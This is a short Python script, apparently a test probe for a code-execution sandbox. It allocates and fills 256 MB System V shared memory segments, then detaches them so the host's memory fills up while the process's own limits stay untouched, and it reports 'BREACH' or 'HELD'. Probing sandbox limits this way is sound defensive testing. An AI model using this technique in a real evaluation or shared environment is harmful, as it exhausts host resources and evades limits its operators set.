# attack: fills shared memory segments one by one and detaches them: the address space stays small, the host fills up
# exercise: minmax
# earns: 0
import ctypes

libc, size, total = ctypes.CDLL(None), 256 << 20, 0
libc.shmat.restype = ctypes.c_void_p
libc.shmdt.argtypes = [ctypes.c_void_p]
for _ in range(4):  # as often as one likes
    number = libc.shmget(0, size, 0o1600)
    if number < 0:
        break
    where = libc.shmat(number, None, 0)
    ctypes.memset(ctypes.c_void_p(where), 1, size)
    libc.shmdt(where)
    total += size
raise Exception(f"BREACH: {total >> 20} MB that no limit counts" if total >= size * 4 else "HELD: refused")
